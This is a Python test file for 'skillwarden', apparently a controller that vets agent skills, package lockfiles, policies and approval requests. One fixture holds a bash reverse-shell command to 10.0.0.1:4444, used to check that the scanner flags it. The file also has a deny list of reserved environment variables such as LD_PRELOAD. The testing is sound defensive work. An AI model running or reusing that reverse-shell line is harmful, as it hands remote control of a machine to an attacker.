"""Projections of users' objects: nothing that a user wrote raises, and what cannot be read fails closed."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from make_domain import NOW, judge, make_finding, make_finding_rules, make_lock, make_policy

from skillwarden.domain.approval_request import Effect, effect_of, request_name
from skillwarden.domain.approvals import names_to_accept
from skillwarden.domain.content import digest_of, pack
from skillwarden.domain.finding import Finding, FindingKind, Severity
from skillwarden.domain.lock import Platform, resolution_key
from skillwarden.domain.package import Ecosystem, PackageId
from skillwarden.domain.policy import Action, Maturity, PolicyRef
from skillwarden.domain.skill import ConfigMapSource, Invocation
from skillwarden.domain.verdict import PendingApproval, Verdict
from skillwarden.services.approvals import request_body
from skillwarden.services.records import (
    agent_record,
    approval_record,
    policy_record,
    run_record,
    skill_record,
)
from skillwarden.services.sources import ConfigMapSources, configmap_files
from skillwarden.source.look import source_findings

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
FIELDS = (
    "source",
    "packages",
    "entrypoint",
    "sandbox",
    "agentRef",
    "mode",
    "runtime",
    "rules",
    "bans",
    "maturity",
    "findings",
    "scanning",
    "skillRef",
    "namespaceSelector",
    "enforcement",
)
SPECS = st.one_of(JSON, st.dictionaries(st.sampled_from(FIELDS), JSON, max_size=4))


def make_body(kind: str, spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "skillwarden.io/v1alpha1",
        "kind": kind,
        "metadata": {
            "name": "demo",
            "namespace": "team",
            "uid": "u",
            "generation": 1,
            "resourceVersion": "9",
        },
        "spec": spec,
    }


def make_spec(**changes: Any) -> dict[str, Any]:
    return {
        "source": {"files": [{"path": "main.py", "content": "print(1)"}]},
        "entrypoint": {"command": ["python", "main.py"]},
        **changes,
    }


@given(SPECS)
def test_whatever_a_user_wrote_is_projected_and_never_read_as_allowing(spec: Any) -> None:
    skill = skill_record(make_body("Skill", spec), name_findings=lambda _: ())
    assert (skill.spec is None) == (skill.content_digest is None and skill.spec_failure is not None)
    run = run_record(make_body("SkillRun", spec))
    assert (run.spec is None) == (run.spec_failure is not None)
    for kind in ("PackagePolicy", "ClusterPackagePolicy"):
        policy = policy_record(kind, make_body(kind, spec))
        assert (policy.policy is None) == bool(policy.error)
    agent = agent_record(make_body("Agent", spec))
    assert agent.maturity is Maturity.STUDENT or not agent.error


LOCK = """# yarn lockfile v1

top@^3:
  version "3.0.0"
"""


def make_node_spec(lock: str, manager: str = "yarn") -> dict[str, Any]:
    files = [{"path": "main.js", "content": "1"}, {"path": "yarn.lock", "content": lock}]
    return make_spec(
        source={"files": files},
        runtime={"language": "Node"},
        packages={"node": {"manager": manager, "dependencies": ["top@^3"]}},
    )


def test_what_a_skills_lockfile_pins_is_of_its_record_and_of_the_key_of_its_lock() -> None:
    pinned = skill_record(make_body("Skill", make_node_spec(LOCK)), name_findings=lambda _: ())
    other = skill_record(
        make_body("Skill", make_node_spec(LOCK.replace("3.0.0", "3.1.0"))), name_findings=lambda _: ()
    )
    assert pinned.source_failure is None
    assert pinned.pins is not None
    assert pinned.pins.direct == (("top", "3.0.0"),)
    platform = Platform(node="24")
    keys = {
        resolution_key(pinned.declared, platform=platform, index="i", pins=pins)
        for pins in (None, pinned.pins, other.pins)
    }
    assert len(keys) == 3


@pytest.mark.parametrize(
    ("lock", "manager", "says"),
    [
        (LOCK.replace('"3.0.0"', '"2.0.0"'), "yarn", "yarn.lock, line 3: it locks top to 2.0.0"),
        ("# yarn lockfile v1\n", "yarn", "does not lock top@^3"),
        (LOCK, "npm", "it is yarn's, and spec.packages.node.manager is npm"),
    ],
)
def test_a_lockfile_that_cannot_be_honoured_is_a_source_that_cannot_be_used(
    lock: str, manager: str, says: str
) -> None:
    record = skill_record(make_body("Skill", make_node_spec(lock, manager)), name_findings=lambda _: ())
    assert record.source_failure is not None
    assert record.source_failure.reason == "InvalidSource"
    assert says in record.source_failure.message
    assert record.source_failure.fix


RUNS_DATA = {"job.dat": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}


def test_what_the_entrypoint_runs_of_inline_files_is_of_the_record() -> None:
    spec = make_spec(
        source={"files": [{"path": path, "content": text} for path, text in RUNS_DATA.items()]},
        entrypoint={"command": ["bash", "job.dat"]},
    )
    record = skill_record(
        make_body("Skill", spec), name_findings=lambda _: (), source_findings=source_findings
    )
    assert [finding.place for finding in record.source_findings or ()] == ["job.dat:1"]


async def test_what_the_entrypoint_runs_of_a_configmap_is_found() -> None:
    class OneConfigMap:
        async def get(self, *_: Any, **__: Any) -> dict[str, Any]:
            return {"data": RUNS_DATA}

    packed = pack(configmap_files({"data": RUNS_DATA}))
    source = ConfigMapSource("code", digest_of(packed).removeprefix("sha256:"))
    sources = ConfigMapSources(OneConfigMap(), look=source_findings)  # type: ignore[arg-type]  # as much as is asked
    seen = await sources.look("default", source, invocation=Invocation(("bash", "job.dat")))
    assert isinstance(seen, tuple)
    assert [finding.place for finding in seen[0]] == ["job.dat:1"]


def test_a_record_keeps_no_bytes_of_files_or_input() -> None:
    record = skill_record(make_body("Skill", make_spec()), name_findings=lambda _: ())
    assert "print(1)" not in repr(record)
    assert (record.content_digest or "").startswith("sha256:")
    run = run_record(make_body("SkillRun", {"skillRef": {"name": "demo"}, "input": "secret-bytes"}))
    assert "secret-bytes" not in repr(run)
    assert (run.input_digest or "").startswith("sha256:")


def test_a_run_without_input_and_one_with_empty_input_differ() -> None:
    spec = {"skillRef": {"name": "demo"}}
    assert run_record(make_body("SkillRun", spec)).input_digest is None
    assert run_record(make_body("SkillRun", {**spec, "input": ""})).input_digest is not None


@pytest.mark.parametrize("name", ["PYTHONPATH", "HOME", "TMPDIR", "SKILLWARDEN_TOKEN", "LD_PRELOAD"])
def test_a_skill_that_sets_a_reserved_variable_is_invalid(name: str) -> None:
    spec = make_spec(sandbox={"env": [{"name": name, "value": "x"}]})
    record = skill_record(make_body("Skill", spec), name_findings=lambda _: ())
    assert record.spec_failure is not None
    assert name in record.spec_failure.text


def test_names_are_looked_at_only_where_intake_took_them_all() -> None:
    asked: list[Any] = []

    def note(declared: Any) -> tuple[()]:
        asked.append(declared)
        return ()

    bad = make_spec(packages={"python": ["numpy", "-e ."]})
    assert len(skill_record(make_body("Skill", bad), name_findings=note).refusals) == 1
    assert asked == []
    skill_record(make_body("Skill", make_spec(packages={"python": ["numpy"]})), name_findings=note)
    assert len(asked) == 1


def test_a_decided_request_accepts_a_finding_under_the_names_that_it_had() -> None:
    package = PackageId.of(Ecosystem.PYPI, "six", "1.17.0")
    copies = tuple(f"ABC-{number}" for number in range(40))
    finding = Finding(FindingKind.VULNERABILITY, package, "GHSA-1", aliases=(*copies, "CVE-1", "X" * 200))
    pending = PendingApproval(
        package,
        (package,),
        Maturity.INTERN,
        artefacts=((package, f"sha256:{'a' * 64}"),),
        findings=(finding,),
        policies=(PolicyRef("rules", "team"),),
    )
    body = request_body("team", "it", pending)
    body["status"] = {"decision": {"verdict": "Approved", "approver": "rita", "reason": "looked"}}
    request = approval_record(body).request
    assert request is not None
    assert request.approval is not None
    wanted = {(package, "vulnerability", name) for name in names_to_accept(finding)}
    assert wanted == {(package, "vulnerability", "GHSA-1"), (package, "vulnerability", "CVE-1")}
    assert wanted <= request.approval.accepted_findings


def test_a_decided_request_accepts_a_finding_of_the_package_that_it_showed() -> None:
    """One hole can be in two packages, and become known of the second after both were approved."""
    ask = Action.REQUIRE_APPROVAL
    severities = dict.fromkeys(Severity, Action.ALLOW) | {Severity.HIGH: ask}
    policy = make_policy(unlisted=ask, findings=make_finding_rules(vulnerability=severities))
    lock = make_lock("viewer 1 > pillow 9.5", "viewer 1 > opencv-python 4.8")
    of_pillow, of_opencv = (
        make_finding(package, "CVE-2023-4863") for package in ("pillow 9.5", "opencv-python 4.8")
    )

    def judged(*findings: Finding, approvals: tuple[Any, ...] = ()) -> Verdict:
        return judge(lock, policy, findings=findings, approvals=approvals)

    [asked] = judged(of_pillow).pending
    body = request_body("team", request_name(asked), asked)
    body["status"] = {"decision": {"verdict": "Approved", "approver": "rita", "reason": "looked"}}
    decided = approval_record(body).request
    assert decided is not None
    approvals = (decided.approval,)
    assert judged(of_pillow, approvals=approvals).allowed
    [again] = judged(of_pillow, of_opencv, approvals=approvals).pending
    assert again.findings == (of_opencv,)
    newer = approval_record(request_body("team", request_name(again), again)).request
    assert newer is not None
    assert effect_of(decided, newer=(newer,), guarded=True, now=NOW)[0] is Effect.NEW_FINDING
